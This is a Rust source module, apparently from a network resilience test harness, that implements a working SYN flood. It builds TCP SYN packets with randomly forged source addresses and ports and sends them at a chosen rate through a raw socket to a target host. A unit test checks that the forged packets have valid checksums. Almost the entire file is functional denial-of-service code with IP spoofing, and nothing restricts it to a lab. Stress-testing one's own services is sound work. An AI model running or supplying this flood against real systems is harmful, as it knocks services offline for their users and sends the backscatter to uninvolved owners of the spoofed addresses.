//! A SYN flood (RFC 4987), to see what becomes of good clients beside it.
//!
//! In: a rate, and a network whose addresses are forged. Out: SYNs through a raw socket of the kernel's, whatever the
//! transport of the good clients is. Answers go to those addresses: make sure that they lead nowhere.

use crate::tcp::syn_packet;
use ipnet::Ipv4Net;
use rand::rngs::StdRng;
use rand::{RngExt, SeedableRng};
use socket2::{Domain, Protocol, Socket, Type};
use std::io;
use std::net::{Ipv4Addr, SocketAddrV4};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

/// The pause between two bursts.
const PAUSE: Duration = Duration::from_millis(1);

/// SYNs from addresses that nobody has.
#[derive(Debug)]
pub struct Flood {
    socket: Socket,
    sources: Ipv4Net,
    target: SocketAddrV4,
    rate: u64,
    random: StdRng,
}

impl Flood {
    /// A flood of `rate` packets a second from all of `sources`.
    ///
    /// # Errors
    /// A raw socket needs CAP_NET_RAW.
    pub fn open(target: SocketAddrV4, sources: Ipv4Net, rate: u64, seed: u64) -> io::Result<Flood> {
        // This protocol says that packets come with their IP headers.
        let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(libc::IPPROTO_RAW)))?;
        Ok(Flood { socket, sources, target, rate, random: StdRng::seed_from_u64(seed) })
    }

    fn packet(&mut self) -> Vec<u8> {
        let first = u32::from(self.sources.network());
        let host = self.random.random_range(first..=u32::from(self.sources.broadcast()));
        let source = SocketAddrV4::new(Ipv4Addr::from(host), self.random.random_range(1024..=u16::MAX));
        syn_packet(source, self.target, self.random.random())
    }

    /// Sends until `stop`; how many packets were sent. What the kernel has no room for is not sent again.
    pub fn run(mut self, stop: &AtomicBool) -> u64 {
        let begun = Instant::now();
        let target = self.target.into();
        let (mut due_before, mut sent) = (0, 0);
        while !stop.load(Ordering::Relaxed) {
            let due = (begun.elapsed().as_secs_f64() * self.rate as f64) as u64;
            for _ in due_before..due {
                let packet = self.packet();
                sent += u64::from(self.socket.send_to(&packet, &target).is_ok());
            }
            due_before = due;
            std::thread::sleep(PAUSE);
        }
        sent
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_forged_syn_is_a_sound_packet() {
        let from = SocketAddrV4::new(Ipv4Addr::new(198, 18, 0, 1), 4242);
        let to = SocketAddrV4::new(Ipv4Addr::new(192, 0, 2, 25), 25);
        let bytes = syn_packet(from, to, 7);
        let packet = smoltcp::wire::Ipv4Packet::new_checked(&bytes[..]).unwrap();
        assert!(packet.verify_checksum());
        let segment = smoltcp::wire::TcpPacket::new_checked(packet.payload()).unwrap();
        assert!(segment.verify_checksum(&packet.src_addr().into(), &packet.dst_addr().into()));
        assert!(segment.syn() && !segment.ack());
        assert_eq!((segment.src_port(), segment.dst_port()), (4242, 25));
    }
}
